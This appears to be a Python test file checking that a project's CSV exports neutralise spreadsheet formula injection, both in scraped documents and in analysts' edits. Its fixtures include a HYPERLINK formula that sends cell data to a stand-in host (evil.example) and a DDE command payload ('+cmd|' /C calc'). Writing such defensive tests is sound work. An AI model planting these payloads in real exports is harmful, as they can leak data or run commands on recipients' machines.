"""Formula cells in every CSV export are neutralised (OWASP: a leading quote before =, +, -, @,
tab or carriage return), whether they came from a page or from an analyst's edit."""
import csv

import pytest
from fastapi.testclient import TestClient
from tests.web import web_sample as sample

from crossings import api, review
from crossings.document import DateInfo, Document, content_hash
from crossings.events import Event, Evidence, Mention, Place, Subject, When
from crossings.export import neutralise, write_documents, write_events
from crossings.store import Store
from crossings.web import create_app

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tTAB=1+1", "\rCR=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_starts_become_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Pak Sun Il", "2024-02", "", None, 3, "a=b", "Sliema - Malta"])
def test_other_values_pass_unchanged(value):
    assert neutralise(value) == value


def rows(path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def no_live_formula(table: list[dict]) -> None:
    cells = [v for row in table for v in row.values() if v]
    assert cells and not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)


def hostile_event() -> tuple[Document, Event]:
    text = "=HYPERLINK(\"http://evil.example\") A soldier defected in May 2024."
    doc = Document(id="=doc", text=text, raw=text, title="=HYPERLINK(\"http://evil.example\",\"x\")",
                   outlet="@outlet", url="https://news.example/a", published=DateInfo("2024-06-01", "day", "manifest"),
                   content_hash=content_hash(text), authors=["+author"])
    start = text.index("defected")
    m = Mention("=doc", "defection", "reported", [Subject(name="=1+1", role="military")], Place("-city", "KP"),
                None, When("2024-05", "month"), ["@source"], [Evidence("type", start, start + 8, "defected")])
    return doc, Event("=ev-1", "defection", "reported", m.subjects, m.origin, None, m.date, "2024-06-01",
                      ["@source", "+wire"], [m])


def test_document_and_event_csv_exports_neutralise_formulas(tmp_path):
    doc, event = hostile_event()
    write_documents([doc], "csv", str(tmp_path / "docs.csv"))
    write_events([event], "csv", str(tmp_path / "events.csv"))
    documents, events = rows(tmp_path / "docs.csv"), rows(tmp_path / "events.csv")
    no_live_formula(documents)
    no_live_formula(events)
    assert documents[0]["title"] == "'=HYPERLINK(\"http://evil.example\",\"x\")" and documents[0]["id"] == "'=doc"
    assert events[0]["names"] == "'=1+1" and events[0]["location"] == "'-city"


def test_an_analysts_formula_edit_is_neutralised_in_the_reviewed_csv(db_url, tmp_path):
    store = Store(db_url)
    sample.build(store)
    target = sample.fused(sample.mentions(sample.documents()))[0].id
    review.decide(store, "edit", target, "ana", "", {"field": "origin.city", "value": '=HYPERLINK("http://e.example")'})
    body = TestClient(create_app(db_url)).get("/export/events.csv").text
    assert "'=HYPERLINK" in body and ",=HYPERLINK" not in body
    assert api.export("events", "csv", str(tmp_path / "reviewed.csv"), db=db_url) == 3
    edited = [r for r in rows(tmp_path / "reviewed.csv") if r["id"] == target]
    assert [r["location"] for r in edited] == ["'=HYPERLINK(\"http://e.example\")"]
